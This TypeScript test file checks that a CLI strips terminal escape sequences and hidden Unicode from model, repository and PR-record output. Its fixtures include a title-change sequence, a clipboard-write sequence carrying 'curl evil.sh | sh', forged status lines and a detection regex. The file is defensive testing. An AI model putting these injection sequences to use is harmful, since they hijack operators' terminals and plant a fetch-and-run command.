/** What the CLI prints from the model, the repository or a PR record cannot drive the operator's terminal. */
import { printResult } from '../../cli/goals';
import { printError, printFields, printJson, printText } from '../../cli/output';
import { terminalSafe, terminalSafeJson } from '../../cli/terminal-text';
import { renderWatch } from '../../cli/watch';
import type { GoalResult, GoalStatusView } from '../../workflows/types';

const TITLE = '\x1b]0;pwned\x07';
const CLIPBOARD = `\x1b]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\x07`;
const FORGED_STATUS = '\x1b[2K\rstatus succeeded';
const HOSTILE = `fixed it${TITLE}${CLIPBOARD}${FORGED_STATUS}`;

/** Everything written to stdout and stderr while `run` runs. */
function captured(run: () => void): string {
  const out: string[] = [];
  const write = (chunk: string | Uint8Array) => {
    out.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
    return true;
  };
  const stdout = jest.spyOn(process.stdout, 'write').mockImplementation(write);
  const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(write);
  try {
    run();
  } finally {
    stdout.mockRestore();
    stderr.mockRestore();
  }
  return out.join('');
}

/** Control characters a terminal acts on (all but \n and \t), and hidden Unicode. */
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069]|\udb40[\udc00-\udc7f]/;

test('escape sequences, controls and hidden Unicode are removed; text, newlines and tabs are kept', () => {
  expect(terminalSafe(HOSTILE)).toBe('fixed itstatus succeeded');
  expect(terminalSafe('a\x9b2Jb\x9d0;t\x9cc\x1bcd\x1b7e\x1bP+q\x1b\\f\x00g\x7fh')).toBe('abcdefgh');
  expect(terminalSafe('admin\u202e \u2066check\u2069\u200b\u{E0041}\u{E0042}')).toBe('admin check');
  expect(terminalSafe('line 1\n\tline 2 — ünïcode → ✔ 🚀')).toBe('line 1\n\tline 2 — ünïcode → ✔ 🚀');
});

test('a goal result with a hostile summary prints with no escape byte (start --wait, result)', () => {
  const result: GoalResult = {
    status: 'failed',
    summary: HOSTILE,
    reason: `checks failed${TITLE}`,
    checks: [
      { command: `npm test${FORGED_STATUS}`, exitCode: 1, passed: false, durationMs: 5, logTail: '', logRef: 'x' },
    ],
    iterations: 3,
    usage: { promptTokens: 1, completionTokens: 2, totalTokens: 3 },
  } as unknown as GoalResult;
  const printed = captured(() => printResult('goal-1', result));
  expect(printed).not.toMatch(UNSAFE);
  expect(printed).toContain('summary       fixed itstatus succeeded\n');
  expect(printed).toContain('status        failed\n');
  expect(printed).toContain('checks        npm teststatus succeeded → exit 1\n');
});

test('status fields, a watch frame, a failure line and a PR body print with no escape byte', () => {
  const view = {
    workflowId: 'goal-1',
    goal: `make it pass${TITLE}`,
    phase: 'agent',
    iteration: 2,
    usage: { promptTokens: 1, completionTokens: 1, totalTokens: 2 },
    limits: { maxIterations: 10, maxTotalTokens: 1000, deadlineAt: Date.now() + 60_000 },
    lastTool: { name: 'shell', argumentsPreview: `{"command":"echo ${CLIPBOARD}"}`, summary: FORGED_STATUS },
    checks: { state: 'not run', results: [] },
    plan: `1. read\n2. ${FORGED_STATUS}`,
  } as unknown as GoalStatusView;
  const printed = captured(() => {
    printFields([['last tool', `${view.lastTool?.name} → ${view.lastTool?.summary}`]]);
    printText(`${renderWatch(view, Date.now())}\n`);
    printError(`drydock: goal goal-1 failed: ${HOSTILE}\n`);
    printText(`# title${TITLE}\n\nbody ${CLIPBOARD}\n`);
  });
  expect(printed).not.toMatch(UNSAFE);
  expect(printed).toContain('last tool  shell → status succeeded\n');
  expect(printed).toContain('plan:\n  1. read\n  2. status succeeded\n');
});

test('JSON output keeps the data but writes what a terminal acts on as \\u escapes', () => {
  const value = { summary: `${HOSTILE} \u009b31m \u202e \u{E0041}` };
  const printed = captured(() => printJson(value));
  expect(printed).not.toMatch(UNSAFE);
  expect(JSON.parse(printed)).toEqual(value);
  expect(JSON.parse(terminalSafeJson(value))).toEqual(value);
  expect(terminalSafeJson('\u009b')).toBe('"\\u009b"');
});
